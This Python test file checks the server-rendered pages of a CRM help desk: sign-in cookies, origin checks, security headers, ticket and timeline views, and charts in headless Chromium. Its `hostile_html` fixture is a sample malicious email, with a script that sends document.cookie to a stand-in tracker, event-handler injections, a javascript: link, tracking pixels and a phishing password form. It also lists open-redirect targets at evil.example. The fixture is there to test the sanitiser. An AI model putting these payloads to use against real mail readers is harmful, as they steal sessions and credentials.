"""The server-rendered pages: sign-in, a contact's timeline, a ticket, the ticket list and the reports.

(a) Through TestClient against the real app and database (SQLite and PostgreSQL), with data made by the real
    ingest and the real `require` of `inboxcrm.web.auth`.
(b) In a real headless Chromium (Debian's chromium + chromium-driver, installed by the `chromium` fixture if
    missing; never skipped), against a real uvicorn: sign-in by the form, the timeline, a hostile HTML mail
    (nothing it points at is fetched: a local "tracker" counts requests) and the charts, with screenshots at
    phone and desktop sizes in test-artifacts/pages/.
"""

from __future__ import annotations

import base64
import contextlib
import fcntl
import html
import http.server
import os
import re
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from fastapi import Depends, FastAPI, HTTPException, Request
from fastapi.testclient import TestClient
from sqlalchemy import insert, select

from inboxcrm import bootstrap
from inboxcrm.adapters.db import migrate
from inboxcrm.adapters.db import tables as t
from inboxcrm.core.model import MailboxKind, MailboxProfile
from inboxcrm.core.ports import FetchedMessage
from inboxcrm.core.reply_tokens import relay_address
from inboxcrm.services.access import Access, ConfiguredToken
from inboxcrm.services.desk import tick_tickets
from inboxcrm.web.auth import COOKIE, Require, Scope, authenticate
from inboxcrm.web.mail_html import FRAME_CSP, FRAME_SANDBOX
from inboxcrm.web.pages import page_routes
from inboxcrm.web.render import PAGE_CSP
from tests.conftest import ROOT, make_settings
from tests.support.desk import ANA, desk_config
from tests.support.mail import mail

SUPPORT = MailboxProfile("support", MailboxKind.SUPPORT, frozenset({"support@northwind.example"}))
SECRET = "test-secret"
TOKEN = "page-reader-token"
ARTIFACTS = ROOT / "test-artifacts" / "pages"
EXTRA = (
    desk_config(ANA.but(display_name="Ana Alves"), secret=SECRET)
    + """
[sla]
timezone = "UTC"

[sla.targets]
normal = { first_response = "4h", resolution = "2d" }
high = { first_response = "1h", resolution = "8h" }
"""
)


class Clock:
    def __init__(self) -> None:
        self.now = datetime(2026, 11, 2, 10, 5, tzinfo=UTC)

    def __call__(self) -> datetime:
        return self.now


_uid = iter(range(1, 1_000_000))


def ingest(app: bootstrap.App, *raws: bytes) -> None:
    app.ingest.ingest_batch(SUPPORT, "INBOX", 1, [FetchedMessage(next(_uid), r) for r in raws])


def html_mail(body: str, *, subject: str = "Invoice overdue", message_id: str = "h1@acme-corp.example") -> bytes:
    """A customer's multipart/alternative mail: a short text part and `body` as the HTML part."""
    message = EmailMessage()
    message["From"] = "Carol Danvers <carol@acme-corp.example>"
    message["To"] = "support@northwind.example"
    message["Subject"] = subject
    message["Message-ID"] = f"<{message_id}>"
    message["Date"] = "Mon, 02 Nov 2026 12:00:00 +0000"
    message.set_content("Your invoice is overdue (text part).\n")
    message.add_alternative(body, subtype="html")
    return message.as_bytes()


def hostile_html(tracker: str = "https://tracker.example") -> str:
    """A mail that tries every way we know to run script, phone home or phish from inside our page."""
    return f"""<html><head><style>body{{background:url({tracker}/bg.png)}}</style>
<link rel="stylesheet" href="{tracker}/style.css"></head><body onload="steal()">
<script>fetch('{tracker}/script?c=' + document.cookie)</script>
<h2>Dear customer,</h2>
<p>Your invoice <b>INV-7</b> is overdue.</p>
<img src="{tracker}/p.gif" width="1" height="1" alt="">
<img src="x" onerror="fetch('{tracker}/onerror')">
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==" alt="dot">
<a href="javascript:fetch('{tracker}/js')">Pay now</a>
<a href="https://acme-corp.example/invoice">See the invoice</a>
<p style="color:#a00;background-image:url({tracker}/bg2.png)">Kind regards</p>
<form action="{tracker}/login"><input name="password"></form>
</body></html>"""


def message_html_of(app: bootstrap.App) -> Callable[[int], str | None]:
    """What `message_html` will be in production: the stored HTML body (`messages.html`) of a message."""

    def message_html(message_id: int) -> str | None:
        with app.engine.connect() as connection:
            return connection.execute(select(t.messages.c.html).where(t.messages.c.id == message_id)).scalar()

    return message_html


def report_data(since: datetime, until: datetime) -> Mapping[str, Any]:
    """Figures shaped as the real report queries give them (the pages do not compute them)."""
    day = until.date()
    return {
        "tickets_by_day": [
            {"day": (day - timedelta(days=n)).isoformat(), "count": c} for n, c in enumerate([3, 0, 5, 2, 8, 1, 4])
        ],
        "funnel": [
            {"stage": "subscriber", "contacts": 120},
            {"stage": "lead", "contacts": 60},
            {"stage": "sql", "contacts": 18},
            {"stage": "customer", "contacts": 7},
        ],
        "scores": [
            {"bucket": f"{lo}–{lo + 10}", "contacts": n}
            for lo, n in zip(range(0, 100, 10), [9, 14, 20, 11, 7, 5, 3, 2, 1, 1], strict=True)
        ],
        "pipeline": [{"stage": "proposal", "deals": 3, "value": 4200.0}, {"stage": "won", "deals": 2, "value": 9000.0}],
    }


def real_require(rate_limit: int = 1000) -> Require:
    """The `require` that create_app builds (`app.state.require`), with one read-only configured token."""
    return authenticate(Access([ConfiguredToken(TOKEN, "pages", Scope.READ)], rate_limit=rate_limit))


def pages_app(app: bootstrap.App, require: Require | None = None, *, reports: bool = True) -> FastAPI:
    web = FastAPI()
    web.include_router(
        page_routes(
            app.reads,
            require or real_require(),
            message_html_of(app),
            report_data if reports else None,
            pipeline_stages=("proposal", "won"),
        )
    )
    return web


def work_a_ticket(app: bootstrap.App, clock: Clock) -> None:
    """Carol writes; Ana answers through the relay with commands and a note; Carol answers quoting her; the
    first-response target is missed; campaign and score events are on Carol's timeline too."""
    ingest(app, mail(message_id="c1@acme-corp.example"))
    relay = relay_address("support@northwind.example", 1, False, datetime(2027, 1, 1).date(), SECRET.encode())
    clock.now = datetime(2026, 11, 2, 15, 0, tzinfo=UTC)
    tick_tickets(app.store, app.support, clock.now)  # 5 h without an answer: the 4 h target is missed
    ingest(
        app,
        mail(
            from_="Ana Alves <ana@northwind.example>",
            to=relay,
            subject="Re: [#1] New ticket: Printer on fire",
            message_id="a1@northwind.example",
            body="#assign ana\n#priority high\n#tag hardware\n\nHi Carol,\n\nplease unplug it first.\n\nAna\n",
            date="Mon, 02 Nov 2026 15:10:00 +0000",
        ),
    )
    ingest(
        app,
        mail(
            message_id="c2@acme-corp.example",
            subject="Re: Printer on fire [#1]",
            in_reply_to="c1@acme-corp.example",
            body="Unplugged, it still smokes.\n\nOn Mon, 2 Nov 2026 at 15:10, Northwind Support wrote:\n"
            "> Hi Carol,\n> please unplug it first.\n",
            date="Mon, 02 Nov 2026 16:00:00 +0000",
        ),
    )
    with app.engine.begin() as connection:
        at = datetime(2026, 11, 3, 9, 0)
        connection.execute(
            insert(t.timeline_events),
            [
                {"contact_id": 1, "at": at, "kind": "score_changed", "summary": "Score +10: opened a ticket"},
                {"contact_id": 1, "at": at, "kind": "stage_changed", "summary": "Stage lead → customer"},
                {"contact_id": 1, "at": at, "kind": "campaign_enrolled", "summary": "Enrolled in campaign onboarding"},
                {"contact_id": 1, "at": at, "kind": "mail_sent", "summary": "onboarding step 1 sent"},
                {"contact_id": 1, "at": at, "kind": "campaign_replied", "summary": "Replied to onboarding step 1"},
                {"contact_id": 1, "at": at, "kind": "campaign_unsubscribed", "summary": "Unsubscribed from onboarding"},
            ],
        )


class Document(HTMLParser):
    """The parts of a page the tests look at: every start tag with its (unescaped) attributes, and text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.texts: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_data(self, data: str) -> None:
        if data.strip():
            self.texts.append(data.strip())

    def all(self, tag: str) -> list[dict[str, str]]:
        return [attrs for name, attrs in self.tags if name == tag]


# --- (a) through TestClient ------------------------------------------------------------------------------


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def desk(tmp_path: Path, database_url: str, clock: Clock) -> Iterator[bootstrap.App]:
    app = bootstrap.build(make_settings(tmp_path, database_url, EXTRA), clock=clock)
    migrate.upgrade(app.engine)
    yield app
    app.close()


@pytest.fixture
def client(desk: bootstrap.App) -> Iterator[TestClient]:
    # https: the sign-in cookie is Secure there, and httpx (like a browser) only sends it back over https
    with TestClient(pages_app(desk), base_url="https://crm.example", follow_redirects=False) as test_client:
        yield test_client


def signed_in(client: TestClient) -> TestClient:
    response = client.post("/sign-in", data={"token": TOKEN})
    assert response.status_code == 303
    return client


def test_sign_in_sets_the_token_cookie_with_the_right_flags(client: TestClient) -> None:
    form = Document(client.get("/sign-in").text)
    assert {"type": "password", "id": "token", "name": "token"}.items() <= form.all("input")[0].items()
    assert form.all("form")[0] == {"class": "card", "method": "post", "action": "/sign-in"}

    response = client.post("/sign-in", data={"token": TOKEN, "next": "/contacts/1/page"})
    assert response.status_code == 303 and response.headers["location"] == "/contacts/1/page"
    cookie = response.headers["set-cookie"]
    flags = {part.strip().split("=")[0].lower() for part in cookie.split(";")[1:]}
    assert cookie.startswith(f"{COOKIE}={TOKEN};")
    assert {"httponly", "secure", "samesite", "path"} <= flags and "max-age" not in flags  # a session cookie
    assert "SameSite=strict" in cookie and "Path=/" in cookie
    assert client.cookies.get(COOKIE) == TOKEN


@pytest.mark.parametrize(
    ("base_url", "headers", "secure"),
    [
        ("http://127.0.0.1:8000", {}, False),  # the demo: plain http on this machine
        ("http://localhost:8000", {}, False),
        ("http://[::1]:8000", {}, False),
        ("http://crm.example", {}, True),  # plain http elsewhere: Secure, so the browser drops it
        ("https://crm.example", {}, True),
        ("http://127.0.0.1:8000", {"X-Forwarded-Proto": "https"}, True),  # behind a proxy on this machine
    ],
)
def test_the_cookie_is_secure_unless_plain_http_on_a_loopback_host(
    desk: bootstrap.App, base_url: str, headers: dict[str, str], secure: bool
) -> None:
    with TestClient(pages_app(desk), base_url=base_url, follow_redirects=False) as client:
        response = client.post("/sign-in", data={"token": TOKEN}, headers=headers)
    assert response.status_code == 303
    assert ("; secure" in response.headers["set-cookie"].lower()) is secure


def test_sign_in_goes_only_to_our_own_pages_and_refuses_cross_site_posts(client: TestClient) -> None:
    for evil in ("//evil.example/", "https://evil.example/", "/\\evil.example", "/sign-in"):
        response = client.post("/sign-in", data={"token": TOKEN, "next": evil})
        assert response.headers["location"] == "/tickets/page", evil
    refused = client.post("/sign-in", data={"token": TOKEN}, headers={"Sec-Fetch-Site": "cross-site"})
    assert refused.status_code == 403 and "set-cookie" not in refused.headers
    bad = client.post("/sign-in", data={"token": "two words"})
    assert bad.status_code == 400 and "set-cookie" not in bad.headers
    assert client.post("/sign-in", json={"token": TOKEN}).status_code == 400  # only the form


@pytest.mark.parametrize(
    ("headers", "allowed"),
    [
        ({"Origin": "https://crm.example"}, True),
        ({"Origin": "https://evil.example"}, False),  # a browser that sends Origin but not Sec-Fetch-Site
        ({"Origin": "https://crm.example.evil.example"}, False),
        ({"Origin": "null"}, False),  # a sandboxed frame or a data: page
        ({"Origin": "http://crm.example:8443"}, False),
        ({"Origin": "https://inside.example", "X-Forwarded-Host": "inside.example"}, True),  # behind a proxy
        ({"Origin": "https://inside.example", "Forwarded": 'for=1.2.3.4;host="inside.example";proto=https'}, True),
        ({}, True),  # curl and other clients without the headers: no cookie was sent for them
    ],
)
def test_sign_in_and_out_check_the_origin_too(client: TestClient, headers: dict[str, str], allowed: bool) -> None:
    response = client.post("/sign-in", data={"token": TOKEN}, headers=headers)
    assert response.status_code == (303 if allowed else 403)
    assert ("set-cookie" in response.headers) is allowed
    assert client.post("/sign-out", headers=headers).status_code == (303 if allowed else 403)


def test_pages_redirect_to_sign_in_until_signed_in(client: TestClient) -> None:
    assert client.get("/").headers["location"] == "/sign-in"
    for path in ("/contacts/1/page", "/tickets/page?status=open", "/tickets/1/page", "/reports/page"):
        response = client.get(path)
        assert response.status_code == 303, path
        assert response.headers["location"].startswith("/sign-in?next=%2F"), path
        assert "set-cookie" not in response.headers
    assert (
        client.get("/tickets/page?status=open").headers["location"] == "/sign-in?next=%2Ftickets%2Fpage%3Fstatus%3Dopen"
    )

    client.cookies.set(COOKIE, "not-a-token", domain="crm.example")
    refused = client.get("/tickets/page")
    assert refused.headers["location"] == "/sign-in?next=%2Ftickets%2Fpage&expired=1"
    assert refused.headers["set-cookie"].startswith(f'{COOKIE}=""; ') and "Max-Age=0" in refused.headers["set-cookie"]
    assert "was not accepted" in client.get(refused.headers["location"]).text

    signed_in(client)
    assert client.get("/").headers["location"] == "/tickets/page"
    assert client.get("/tickets/page").status_code == 200
    out = client.post("/sign-out")
    assert out.headers["location"] == "/sign-in" and "Max-Age=0" in out.headers["set-cookie"]
    assert client.get("/tickets/page").status_code == 303


def test_an_api_client_may_read_pages_with_a_bearer_token(client: TestClient) -> None:
    assert client.get("/tickets/page", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 200
    assert client.get("/tickets/page", headers={"Authorization": "Bearer wrong"}).status_code == 303


def test_a_token_without_the_scope_or_over_its_limit_gets_a_page_not_json(desk: bootstrap.App) -> None:
    def scope_below_read(scope: Scope) -> Any:
        def check(request: Request) -> None:
            raise HTTPException(status_code=403, detail=f"needs {scope}")

        return Depends(check)

    with TestClient(pages_app(desk, scope_below_read), base_url="https://crm.example") as client:
        response = client.get("/tickets/page", headers={"Authorization": "Bearer some-token"})
    assert response.status_code == 403 and response.headers["content-type"].startswith("text/html")
    assert "may not read" in response.text

    limited_app = pages_app(desk, real_require(rate_limit=2))
    with TestClient(limited_app, base_url="https://crm.example", follow_redirects=False) as client:
        signed_in(client)
        assert [client.get("/tickets/page").status_code for _ in range(3)] == [200, 200, 429]
        limited = client.get("/tickets/page")
    assert limited.headers["content-type"].startswith("text/html") and int(limited.headers["retry-after"]) > 0


def test_every_page_carries_the_security_headers(client: TestClient, desk: bootstrap.App, clock: Clock) -> None:
    work_a_ticket(desk, clock)
    responses = [client.get("/sign-in"), client.get("/"), client.get("/reports/page")]  # the last a redirect
    signed_in(client)
    for path in (
        "/tickets/page",
        "/tickets/1/page",
        "/contacts/1/page",
        "/reports/page",
        "/tickets/99/page",
        "/contacts/1/page?cursor=!!!",
    ):
        responses.append(client.get(path))
    responses += [client.post("/sign-out")]
    assert [r.status_code for r in responses] == [200, 303, 303, 200, 200, 200, 200, 404, 400, 303]
    for response in responses:
        assert response.headers["content-security-policy"] == PAGE_CSP
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "same-origin"
        assert response.headers["cache-control"] == "no-store"
        if response.status_code != 303:
            assert "<script" not in response.text.lower()
    assert PAGE_CSP.startswith(
        "default-src 'none'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; frame-src 'self'; "
        "form-action 'self'; base-uri 'none'"
    )


def test_the_ticket_page_shows_the_header_and_the_thread_in_order(
    client: TestClient, desk: bootstrap.App, clock: Clock
) -> None:
    work_a_ticket(desk, clock)
    page = signed_in(client).get("/tickets/1/page")
    assert page.status_code == 200
    document = Document(page.text)
    text = " ".join(document.texts)
    assert "#1 Printer on fire" in text
    fields = {
        attrs["data-field"]: value
        for (_, attrs), value in zip(document.tags, _text_after_each_tag(page.text), strict=True)
        if "data-field" in attrs
    }
    assert fields["status"] == "open" and fields["priority"] == "high" and fields["assignee"] == "ana"
    assert fields["sla"] == "breached"
    assert re.search(r'data-field="tags"><span class="badge">hardware</span>', page.text)
    assert "missed 2026-11-02 14:00 UTC" in text  # the first response, 4 h after the ticket opened at 10:00
    # the thread, oldest first: Carol, Ana's relayed answer (commands removed), Carol's answer
    assert (
        text.index("our printer is on fire again")
        < text.index("please unplug it first")
        < text.index("it still smokes")
    )
    assert 'href="/contacts/1/page"' in page.text
    assert "<iframe" not in page.text  # text-only mail is shown as text


def _text_after_each_tag(page: str) -> list[str]:
    """For each start tag in order, the text that directly follows it (for `data-field` values)."""
    out: list[str] = []

    class Follow(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            out.append("")

        def handle_data(self, data: str) -> None:
            if out and not out[-1]:
                out[-1] = data.strip()

    Follow().feed(page)
    return out


def test_a_hostile_html_mail_is_sanitised_inside_a_sandboxed_srcdoc(client: TestClient, desk: bootstrap.App) -> None:
    ingest(desk, html_mail(hostile_html()))
    page = signed_in(client).get("/tickets/1/page")
    assert page.status_code == 200
    (frame,) = Document(page.text).all("iframe")
    assert frame["sandbox"] == FRAME_SANDBOX == "allow-popups allow-popups-to-escape-sandbox"
    assert "allow-scripts" not in frame["sandbox"] and "allow-same-origin" not in frame["sandbox"]
    srcdoc = frame["srcdoc"]  # unescaped by the parser: the document the browser will render
    assert f'<meta http-equiv="Content-Security-Policy" content="{FRAME_CSP}">' in srcdoc
    assert FRAME_CSP == "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
    for gone in ("<script", "onerror", "onload", "tracker.example", "javascript:", "<form", "<input", "<link", "url("):
        assert gone not in srcdoc.lower(), gone
    inner = Document(srcdoc)
    assert "Your invoice" in " ".join(inner.texts) and "INV-7" in inner.texts
    sources = [i.get("src") for i in inner.all("img")]  # the pixel and the onerror image lose theirs
    assert sources[:2] == [None, None] and len(sources) == 3 and str(sources[2]).startswith("data:image/gif;base64,")
    evil = re.search(r"<a([^>]*)>Pay now</a>", srcdoc)
    invoice = re.search(r"<a([^>]*)>See the invoice</a>", srcdoc)
    assert evil is not None and invoice is not None
    assert Document(f"<a{evil.group(1)}>").all("a") == [{"target": "_blank", "rel": "noopener noreferrer"}]
    assert Document(f"<a{invoice.group(1)}>").all("a") == [
        {"href": "https://acme-corp.example/invoice", "target": "_blank", "rel": "noopener noreferrer"}
    ]
    # the srcdoc attribute is escaped in the page: the mail's markup never becomes part of our page
    raw_attribute = re.search(r'srcdoc="([^"]*)"', page.text)
    assert raw_attribute is not None and "<" not in raw_attribute.group(1)
    assert html.unescape(raw_attribute.group(1)) == srcdoc
    assert "Your invoice is overdue (text part)." in page.text  # the text version, behind a toggle


def test_the_contact_page_shows_the_whole_timeline_newest_first_and_pages_through_it(
    client: TestClient, desk: bootstrap.App, clock: Clock
) -> None:
    work_a_ticket(desk, clock)
    every = desk.reads.timeline(1, limit=200).items
    kinds = {e.kind for e in every}
    assert {"message_in", "message_out", "ticket_opened", "ticket_sla_breached", "campaign_unsubscribed"} <= kinds
    signed_in(client)

    page = client.get("/contacts/1/page")
    assert page.status_code == 200
    document = Document(page.text)
    shown = [attrs["data-kind"] for attrs in document.all("li") if "data-kind" in attrs]
    assert shown == [e.kind for e in every]  # all of it, in the API's order: newest first
    text = " ".join(document.texts)
    for label in ("Score", "Stage", "Campaign: enrolled", "Campaign: replied", "Campaign: unsubscribed", "Mail sent"):
        assert label in text, label
    assert "Stage lead → customer" in text and "Carol Danvers" in text
    # Carol's answer: her new text shown, the quote behind a toggle
    quoted = page.text.index("<summary>Quoted text</summary>")
    assert page.text.index("Unplugged, it still smokes.") < quoted < page.text.index("&gt; please unplug it first.")
    assert 'href="/tickets/1/page"' in page.text

    seen: list[str] = []
    url: str | None = "/contacts/1/page?limit=3"
    while url:
        document = Document(client.get(url).text)
        seen += [attrs["id"] for attrs in document.all("li") if "data-kind" in attrs]
        url = next((a["href"] for a in document.all("a") if a.get("rel") == "next"), None)
    assert seen == [f"event-{e.id}" for e in every]
    assert client.get("/contacts/999/page").status_code == 404


def test_the_ticket_list_filters_by_status(client: TestClient, desk: bootstrap.App, clock: Clock) -> None:
    work_a_ticket(desk, clock)
    ingest(desk, mail(message_id="x9@acme-corp.example", subject="Another problem"))
    signed_in(client)
    everything = client.get("/tickets/page").text
    assert 'href="/tickets/1/page"' in everything and 'href="/tickets/2/page"' in everything
    assert "SLA missed" in everything
    new_only = client.get("/tickets/page?status=new").text
    assert 'href="/tickets/2/page"' in new_only and 'href="/tickets/1/page"' not in new_only
    assert client.get("/tickets/page?status=bogus").status_code == 400


def test_the_reports_page_draws_the_charts_server_side(client: TestClient, desk: bootstrap.App) -> None:
    page = signed_in(client).get("/reports/page?days=7")
    assert page.status_code == 200
    document = Document(page.text)
    charts = document.all("svg")
    assert [c["aria-label"] for c in charts] == [
        "Tickets opened per day, last 7 days",
        "Contacts by lifecycle stage",
        "Contacts by score",
        "Deal value by stage",
    ]
    bar_heights = [float(r["height"]) for r in document.all("rect") if r.get("class") == "bar"]
    assert len(bar_heights) == 7 + 4 + 10 + 2  # 7 days, 4 stages, 10 score buckets, 2 pipeline stages
    assert sum(h > 0 for h in bar_heights) == 6 + 4 + 10 + 2  # one of the 7 days had no tickets
    assert "proposal (3)" in document.texts and "9,000" in document.texts


def test_the_reports_page_without_report_queries_shows_pipeline_and_campaigns(desk: bootstrap.App) -> None:
    with TestClient(pages_app(desk, reports=False), base_url="https://crm.example", follow_redirects=False) as client:
        page = signed_in(client).get("/reports/page")
    assert page.status_code == 200
    assert "not available on this installation" in page.text
    assert "<svg" not in page.text  # no deals yet: nothing to draw, but the configured stages are listed
    assert "<td>proposal</td>" in page.text and "<td>won</td>" in page.text
    assert "No campaigns have enrolled anyone yet." in page.text


# --- (b) in a real browser ------------------------------------------------------------------------------


@pytest.fixture(scope="session")
def chromium() -> tuple[str, str]:
    """Debian's chromium and chromedriver, installed with apt-get when missing (under a lock: xdist workers
    share the machine). Fails, never skips, when they cannot be had."""
    lock = Path("/tmp/inboxcrm-chromium-install.lock")
    with lock.open("w") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        if not (shutil.which("chromium") and shutil.which("chromedriver")):
            if shutil.which("apt-get") is None:
                pytest.fail("chromium/chromedriver are missing and apt-get is not available to install them")
            env = dict(os.environ, DEBIAN_FRONTEND="noninteractive")
            command = ["apt-get", "install", "-y", "-q", "chromium", "chromium-driver"]
            done = subprocess.run(command, capture_output=True, text=True, env=env, check=False)
            if done.returncode != 0:  # a fresh machine may have no package lists yet
                subprocess.run(["apt-get", "update", "-q"], capture_output=True, env=env, check=False)
                done = subprocess.run(command, capture_output=True, text=True, env=env, check=False)
            if done.returncode != 0:
                pytest.fail(
                    f"apt-get install chromium chromium-driver failed:\n{done.stdout[-2000:]}{done.stderr[-2000:]}"
                )
    browser, driver = shutil.which("chromium"), shutil.which("chromedriver")
    if not (browser and driver):
        pytest.fail("apt-get installed chromium and chromium-driver, but they are not on PATH")
    return browser, driver


class Tracker(http.server.ThreadingHTTPServer):
    """A local stand-in for a mail tracker: counts every request it gets."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        tracker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                tracker.hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)


@contextlib.contextmanager
def serving(web: FastAPI) -> Iterator[str]:
    """`web` on a real uvicorn on a free loopback port, in a thread; yields its base URL."""
    import uvicorn

    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(web, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        if time.monotonic() > deadline or not thread.is_alive():
            pytest.fail("uvicorn did not start")
        time.sleep(0.02)
    try:
        yield f"http://127.0.0.1:{sock.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(10)
        sock.close()


def test_the_pages_in_headless_chromium(tmp_path: Path, chromium: tuple[str, str]) -> None:
    try:
        from selenium import webdriver
        from selenium.webdriver.chrome.options import Options
        from selenium.webdriver.chrome.service import Service
        from selenium.webdriver.common.by import By
    except ImportError:
        pytest.fail("selenium is missing: install the dev extras (pip install -e '.[dev]')")

    tracker = Tracker()
    threading.Thread(target=tracker.serve_forever, daemon=True).start()
    tracker_url = f"http://127.0.0.1:{tracker.server_address[1]}"
    clock = Clock()
    app = bootstrap.build(make_settings(tmp_path, f"sqlite:///{tmp_path / 'pages.db'}", EXTRA), clock=clock)
    migrate.upgrade(app.engine)
    options = Options()
    options.binary_location = chromium[0]
    for argument in (
        "--headless=new",
        "--no-sandbox",  # we run as root
        "--disable-dev-shm-usage",
        "--disable-gpu",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        # nothing leaves this machine, whatever a page asks for
        "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
        "--window-size=1280,900",
    ):
        options.add_argument(argument)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    try:
        work_a_ticket(app, clock)
        ingest(app, html_mail(hostile_html(tracker_url), message_id="h2@acme-corp.example"))
        with serving(pages_app(app)) as base:
            driver = webdriver.Chrome(options=options, service=Service(executable_path=chromium[1]))
            try:
                _browse(driver, base, By)
            finally:
                driver.quit()
    finally:
        app.close()
        tracker.shutdown()
    assert tracker.hits == []  # not one request reached the tracker: no pixel, no CSS, no script, no form


def _screenshot(driver: Any, name: str, phone: bool, scroll_to: str | None = None) -> None:
    """A PNG at phone (390×844, a touch device honouring the viewport meta) or desktop (1280×900) size: the
    whole page, or with `scroll_to` (a CSS selector) the screen showing that element. Also checks that the
    page does not scroll sideways."""
    if phone:
        driver.execute_cdp_cmd(
            "Emulation.setDeviceMetricsOverride", {"width": 390, "height": 844, "deviceScaleFactor": 2, "mobile": True}
        )
    else:
        driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
    driver.refresh()
    width = driver.execute_script("return document.documentElement.scrollWidth")
    viewport = driver.execute_script("return window.innerWidth")
    assert width <= viewport, f"{name}: the page scrolls sideways ({width} > {viewport})"
    if scroll_to:
        driver.execute_script("arguments[0].scrollIntoView()", driver.find_element("css selector", scroll_to))
    # a frame outside the screen is not painted into a whole-page capture: such shots show the screen only
    shot = driver.execute_cdp_cmd("Page.captureScreenshot", {"format": "png", "captureBeyondViewport": not scroll_to})
    (ARTIFACTS / f"{name}-{'phone' if phone else 'desktop'}.png").write_bytes(base64.b64decode(shot["data"]))


def _browse(driver: Any, base: str, by: Any) -> None:
    # not signed in: the browser lands on the sign-in form, and comes back to the page it asked for
    driver.get(f"{base}/contacts/1/page")
    assert driver.current_url == f"{base}/sign-in?next=%2Fcontacts%2F1%2Fpage"
    driver.find_element(by.ID, "token").send_keys(TOKEN)
    driver.find_element(by.CSS_SELECTOR, "form[action='/sign-in'] button").click()
    from selenium.webdriver.support.wait import WebDriverWait

    WebDriverWait(driver, 20).until(lambda d: "/sign-in" not in d.current_url)  # the click does not wait
    assert driver.current_url == f"{base}/contacts/1/page"
    cookie = driver.get_cookie(COOKIE)
    assert cookie["value"] == TOKEN and cookie["httpOnly"] is True and cookie["sameSite"] == "Strict"
    assert cookie["secure"] is False  # plain http on 127.0.0.1: see sign_in.secure_cookie
    assert driver.execute_script("return document.cookie") == ""  # HttpOnly: invisible to scripts

    # the timeline: every entry, and the quoted text opens with a click (a <details>, no script)
    entries = driver.find_elements(by.CSS_SELECTOR, "li[data-kind]")
    assert len(entries) >= 12
    quote = driver.find_element(by.XPATH, "//summary[text()='Quoted text']/following-sibling::div")
    assert not quote.is_displayed()
    quote.find_element(by.XPATH, "../summary").click()
    assert quote.is_displayed() and "please unplug it first" in quote.text
    _screenshot(driver, "contact", phone=True)
    _screenshot(driver, "contact", phone=False)

    # the hostile mail: rendered inside the sandboxed frame, with nothing of it running or loading
    driver.get(f"{base}/tickets/2/page")
    frame = driver.find_element(by.CSS_SELECTOR, "iframe.mail")
    assert frame.size["height"] > 100 and frame.size["width"] > 300
    driver.switch_to.frame(frame)
    try:
        assert driver.find_element(by.TAG_NAME, "h2").text == "Dear customer,"
        assert "INV-7" in driver.find_element(by.TAG_NAME, "body").text
        assert driver.find_elements(by.TAG_NAME, "script") == []
        assert [i.get_attribute("src") for i in driver.find_elements(by.TAG_NAME, "img")][:2] == [None, None]
        assert driver.find_element(by.LINK_TEXT, "Pay now").get_attribute("href") is None
    finally:
        driver.switch_to.default_content()
    _screenshot(driver, "ticket", phone=True)
    _screenshot(driver, "ticket-message", phone=True, scroll_to="article")
    driver.switch_to.frame(driver.find_element(by.CSS_SELECTOR, "iframe.mail"))
    try:  # on a phone too, the mail is there and fits the frame's width
        assert driver.find_element(by.TAG_NAME, "h2").is_displayed()
        assert driver.execute_script("return document.documentElement.scrollWidth <= window.innerWidth")
    finally:
        driver.switch_to.default_content()
    _screenshot(driver, "ticket", phone=False)

    # the reports: four SVG charts whose bars have a height on screen
    driver.get(f"{base}/reports/page?days=7")
    charts = driver.find_elements(by.CSS_SELECTOR, "svg.chart")
    assert len(charts) == 4
    for chart in charts:
        heights = [bar.rect["height"] for bar in chart.find_elements(by.CSS_SELECTOR, "rect.bar")]
        assert heights and max(heights) > 10, chart.get_attribute("aria-label")
        assert chart.rect["width"] > 300
    _screenshot(driver, "reports", phone=True)
    phone_widths = [c.rect["width"] for c in driver.find_elements(by.CSS_SELECTOR, "svg.chart")]
    assert all(w <= 390 for w in phone_widths)  # single column on a phone
    _screenshot(driver, "reports", phone=False)

    # the CSP let everything of ours through, and the browser reported nothing else refused
    problems = [e["message"] for e in driver.get_log("browser") if "Content Security Policy" in e["message"]]
    assert problems == []
